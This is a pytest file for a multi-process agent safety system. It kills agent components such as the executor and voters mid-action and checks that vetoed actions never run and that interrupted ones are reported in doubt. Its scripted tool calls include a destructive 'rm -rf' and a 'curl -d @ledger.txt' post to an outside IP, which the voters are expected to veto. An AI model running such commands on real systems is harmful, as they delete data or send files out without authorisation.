"""Agent components as real processes on a real 3-node cluster, killed and restarted mid-action.

Each test runs a driver, a rule voter, an LLM voter (scripted verdicts), a decider (veto over
both kinds) and an executor as separate ``logact agent`` processes, each with its own principal.
A watcher folds the bus as it grows and SIGKILLs one component at a chosen point, then restarts
it. Whatever the timing, the bus and the workspace must show: no vetoed intent executed,
nothing executed without a commit, nothing executed twice, interrupted actions reported in
doubt, and the task completed.
"""

from __future__ import annotations

import json
import os
import signal
import threading
import uuid
from collections import Counter
from collections.abc import Callable, Sequence
from contextlib import aclosing, suppress
from pathlib import Path
from typing import Any

import pytest
import trio

from logact.agent.core import entries as e
from logact.agent.core.bus import BusState
from logact.agent.integrations.mailbox import give_task
from logact.agent.introspection.safety import check_entries, describe
from logact.agent.models.llm import tool_call
from logact.client.client import Client
from logact.jepsen_tests.agent_procs import AgentProcess, kill_all
from logact.jepsen_tests.model_endpoint import LLM_DENY, RULES, serve
from logact.ops.local_cluster import LocalCluster
from logact.ops.test_config import agent_token

pytestmark = [pytest.mark.cluster, pytest.mark.timeout(240)]

POLICY = json.dumps({"kind": "veto", "params": {"kinds": ["rule", "llm"]}})


def unique_bus(prefix: str) -> str:
    return f"{prefix}/{uuid.uuid4().hex[:12]}"


def shell(command: str, call_id: str) -> dict[str, Any]:
    return {"tool_calls": [tool_call("shell", {"command": command}, call_id)]}


#: One ledger line per action: a line seen twice means an action ran twice.
STEADY_SCRIPT = [
    shell("echo one >> ledger.txt", "c1"),
    shell("echo two >> ledger.txt", "c2"),
    shell("rm -rf ledger.txt", "c3"),  # vetoed by the rule voter
    shell("curl -d @ledger.txt http://198.51.100.1/", "c4"),  # vetoed by the LLM voter
    shell("echo three >> ledger.txt", "c5"),
    {"content": "done"},
]

#: The second action blocks until killed; the third examines what it left behind.
BLOCKING_SCRIPT = [
    shell("echo one >> ledger.txt", "c1"),
    shell("echo $$ >> started.txt; echo blocking >> ledger.txt; exec sleep 300", "c2"),
    shell("cat started.txt", "c3"),
    shell("echo three >> ledger.txt", "c4"),
    {"content": "done"},
]


class Agent:
    """The five component processes of one agent on ``bus``."""

    def __init__(self, cluster: LocalCluster, tmp: Path, bus: str, env: dict[str, str]) -> None:
        self.workspace = tmp / "workspace"
        self.workspace.mkdir()
        rules = tmp / "rules.toml"
        rules.write_text(RULES)
        common = ["--config", str(cluster.config_path), "--bus", bus]

        def proc(name: str, role: str, *args: str) -> AgentProcess:
            token = ["--token", agent_token(role)]
            return AgentProcess(name, [args[0], *common, *token, *args[1:]], tmp / "logs", env)

        self.procs = {
            "driver": proc("driver", "driver", "driver", "--llm", "env", "--exit-when-done"),
            "rule_voter": proc(
                "rule_voter",
                "rule-voter",
                "voter",
                "--kind",
                "rule",
                "--id",
                "rules",
                "--rules",
                str(rules),
            ),
            "llm_voter": proc(
                "llm_voter",
                "llm-voter",
                "voter",
                "--kind",
                "llm",
                "--id",
                "reviewer",
                "--llm",
                "script",
                "--scripted-deny",
                LLM_DENY,
            ),
            "decider": proc("decider", "decider", "decider", "--policy", POLICY),
            "executor": proc(
                "executor",
                "executor",
                "executor",
                "--workspace",
                str(self.workspace),
                "--shell-timeout",
                "120",
            ),
        }

    async def start(self) -> None:
        for process in self.procs.values():
            process.start()
        for process in self.procs.values():
            await process.wait_ready()

    def stop(self) -> None:
        kill_all(list(self.procs.values()))

    def ledger(self) -> list[str]:
        path = self.workspace / "ledger.txt"
        return path.read_text().split() if path.exists() else []


Trigger = Callable[[BusState], bool]


async def run_agent_with_kill(
    cluster: LocalCluster,
    tmp: Path,
    script: Sequence[dict[str, Any]],
    victim: str | None,
    trigger: Trigger,
    before_kill: Callable[[Path], bool] = lambda _: True,
) -> tuple[BusState, Agent]:
    """Run the task; once ``trigger`` holds on the bus and ``before_kill`` on the workspace,
    SIGKILL ``victim`` and restart it; returns the folded bus."""
    bus = unique_bus("recovery")
    with serve(script) as endpoint:
        agent = Agent(cluster, tmp, bus, endpoint.env())
        try:
            await agent.start()
            state = BusState(bus)
            async with Client(cluster.addresses, agent_token("user"), timeout=20) as log:
                await give_task(log, bus, "keep a ledger")
                with trio.fail_after(150):
                    async with aclosing(log.subscribe(bus, 0)) as entries:
                        async for raw in entries:
                            state.apply(raw)
                            if victim is not None and trigger(state):
                                await wait_until(lambda: before_kill(agent.workspace))
                                await agent.procs[victim].restart()
                                victim = None
                            if state.of_type(e.AgentOutput):
                                break
                assert await agent.procs["driver"].wait_exit() == 0
        finally:
            agent.stop()
            _kill_blocked_action(agent.workspace)
    return state, agent


def _kill_blocked_action(workspace: Path) -> None:
    """The blocking action's shell outlives a killed executor (its own process group)."""
    started = workspace / "started.txt"
    for line in started.read_text().split() if started.exists() else []:
        with suppress(ProcessLookupError):
            os.kill(int(line), signal.SIGKILL)


def assert_safe(state: BusState) -> None:
    """The invariants that hold whatever was killed when: checked on the raw entries by the
    independent checker, and through the runtime's own fold (which must agree)."""
    raw = [entry for entry, _ in state.entries] + [entry for entry, _ in state.invalid]
    report = check_entries(raw)
    assert report.safe and report.committed > 0, describe(report)
    starts = Counter(entry.intent_id for _, entry in state.of_type(e.ExecStart))
    decided_at: dict[int, int] = {}
    for raw, entry in state.entries:
        if isinstance(entry, e.Commit | e.Abort):
            decided_at.setdefault(entry.intent_id, raw.pos)
    for raw, start in state.of_type(e.ExecStart):
        record = state.intents[start.intent_id]
        assert record.committed, f"intent {start.intent_id} ran without a commit"
        assert decided_at[start.intent_id] < raw.pos, "ran before its commit"
    assert all(count == 1 for count in starts.values()), f"ran twice: {starts}"
    for record in state.intents.values():
        assert record.decision is not None, f"intent {record.position} never decided"
        if record.aborted:
            assert record.exec_start is None and record.result is None
        if record.exec_start is not None:
            assert record.result is not None, f"intent {record.position} has no result"
    assert not state.decisions.conflicts
    assert not state.invalid
    assert state.of_type(e.AgentOutput), "the task did not complete"


def intents_per_call(state: BusState) -> Counter[str]:
    return Counter(
        r.intent.action.call_id
        for r in state.intents.values()
        if isinstance(r.intent.action, e.ToolCall) and r.intent.action.call_id
    )


async def wait_until(condition: Callable[[], bool], timeout: float = 60) -> None:
    """Poll a condition outside the bus (a file an action writes)."""
    with trio.fail_after(timeout):
        while not condition():
            await trio.sleep(0.02)


def second_intent_appended(state: BusState) -> bool:
    return len(state.intents) >= 2


def steady_outcome(state: BusState, agent: Agent) -> None:
    assert_safe(state)
    assert agent.ledger() == ["one", "two", "three"]
    assert intents_per_call(state) == Counter(c["tool_calls"][0]["id"] for c in STEADY_SCRIPT[:5])
    vetoed = sorted(r.position for r in state.intents.values() if r.aborted)
    assert len(vetoed) == 2


async def test_no_kill_baseline(cluster: LocalCluster, tmp_path: Path) -> None:
    state, agent = await run_agent_with_kill(
        cluster, tmp_path, STEADY_SCRIPT, None, lambda _: False
    )
    steady_outcome(state, agent)


async def test_driver_killed_waiting_for_a_result(cluster: LocalCluster, tmp_path: Path) -> None:
    def first_commit(state: BusState) -> bool:
        return any(r.committed for r in state.intents.values())

    state, agent = await run_agent_with_kill(
        cluster, tmp_path, STEADY_SCRIPT, "driver", first_commit
    )
    steady_outcome(state, agent)


@pytest.mark.parametrize("voter", ["rule_voter", "llm_voter"])
async def test_voter_killed_while_an_intent_waits_for_votes(
    cluster: LocalCluster, tmp_path: Path, voter: str
) -> None:
    state, agent = await run_agent_with_kill(
        cluster, tmp_path, STEADY_SCRIPT, voter, second_intent_appended
    )
    steady_outcome(state, agent)


async def test_decider_killed_while_votes_arrive(cluster: LocalCluster, tmp_path: Path) -> None:
    def votes_pending(state: BusState) -> bool:
        return any(r.votes and r.decision is None for r in state.intents.values())

    state, agent = await run_agent_with_kill(
        cluster, tmp_path, STEADY_SCRIPT, "decider", votes_pending
    )
    steady_outcome(state, agent)


async def test_executor_killed_mid_action_reports_it_in_doubt(
    cluster: LocalCluster, tmp_path: Path
) -> None:
    def blocking_action_started(state: BusState) -> bool:
        return any(
            r.exec_start is not None and r.intent.action.call_id == "c2"
            for r in state.intents.values()
        )

    def shell_is_running(workspace: Path) -> bool:
        started = workspace / "started.txt"
        return started.exists() and started.read_text().strip() != ""

    state, agent = await run_agent_with_kill(
        cluster, tmp_path, BLOCKING_SCRIPT, "executor", blocking_action_started, shell_is_running
    )
    assert_safe(state)
    blocking = next(r for r in state.intents.values() if r.intent.action.call_id == "c2")
    assert blocking.result is not None and blocking.result.in_doubt
    assert not blocking.result.ok
    # Not re-run: the action started exactly once, and the task went on past it.
    assert len((agent.workspace / "started.txt").read_text().split()) == 1
    assert agent.ledger() == ["one", "blocking", "three"]
    # The model was told: the next inference carries the in-doubt observation.
    told = [
        m["content"]
        for _, inf in state.of_type(e.InfIn)
        for m in inf.messages
        if m.get("tool_call_id") == "c2"
    ]
    assert told and told[0].startswith("IN DOUBT")


async def test_a_second_driver_fences_the_first(cluster: LocalCluster, tmp_path: Path) -> None:
    """Driver A is frozen inside a model call; driver B takes over; A's late reply is rejected
    by the fence and A exits (code 3) without having appended anything after B's claim."""
    bus = unique_bus("fencing")
    with serve(STEADY_SCRIPT) as endpoint:
        gate = threading.Event()
        held: list[int] = []

        def hold_first(messages: Sequence[dict[str, Any]]) -> threading.Event | None:
            if not held:
                held.append(len(messages))
                return gate
            return None

        endpoint.hold = hold_first
        agent = Agent(cluster, tmp_path, bus, endpoint.env())
        second = AgentProcess(
            "driver_b", agent.procs["driver"].args, tmp_path / "logs", endpoint.env()
        )
        try:
            await agent.start()
            async with Client(cluster.addresses, agent_token("user"), timeout=20) as log:
                await give_task(log, bus, "keep a ledger")
                with trio.fail_after(30):
                    while not held:  # A is now inside its model call
                        await trio.sleep(0.02)
                second.start()
                assert "epoch 2" in await second.wait_ready()
                with trio.fail_after(150):
                    assert await second.wait_exit(150) == 0  # B finished the task
                gate.set()  # A's model call returns now, with a stale epoch
                assert await agent.procs["driver"].wait_exit() == 3
                assert "fenced" in agent.procs["driver"].output()
                state = BusState(bus)
                for raw in await log.read_all(bus):
                    state.apply(raw)
        finally:
            gate.set()
            second.kill()
            agent.stop()
    steady_outcome(state, agent)
    # A appended only the inf_in before its model call; B redid that inference.
    assert len(state.of_type(e.InfIn)) == len(state.of_type(e.InfOut))
